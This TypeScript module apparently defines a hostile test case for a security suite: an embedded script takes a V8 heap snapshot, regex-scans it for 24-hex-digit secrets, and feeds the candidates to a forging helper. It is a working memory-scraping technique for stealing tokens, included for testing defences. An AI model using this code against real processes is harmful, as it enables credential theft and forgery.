import { encoder, FORGE, type Hostile } from "./hostile.ts";

export const hostile = {
  title: "a snapshot of the heap shows the token",
  story:
    "Whatever a process knows, a snapshot of its heap holds: every text of 24 hexadecimal digits is tried.",
  files: {
    "src/trick.ts": `
      import { forge } from "./forge.ts";

       import v8 from "node:v8";
       const tokens = new Set<string>();
       let tail = "";
       for await (const chunk of v8.getHeapSnapshot()) {
         const text = tail + chunk.toString("latin1");
         for (const [, token] of text.matchAll(/"(?:\\\\\\\\n)?([0-9a-f]{24})[" ]/g)) tokens.add(token!);
         tail = text.slice(-64);
       }
       forge([...tokens]);
    `,
    "src/forge.ts": FORGE,
    "src/encode.ts": encoder(),
  },
} satisfies Hostile;
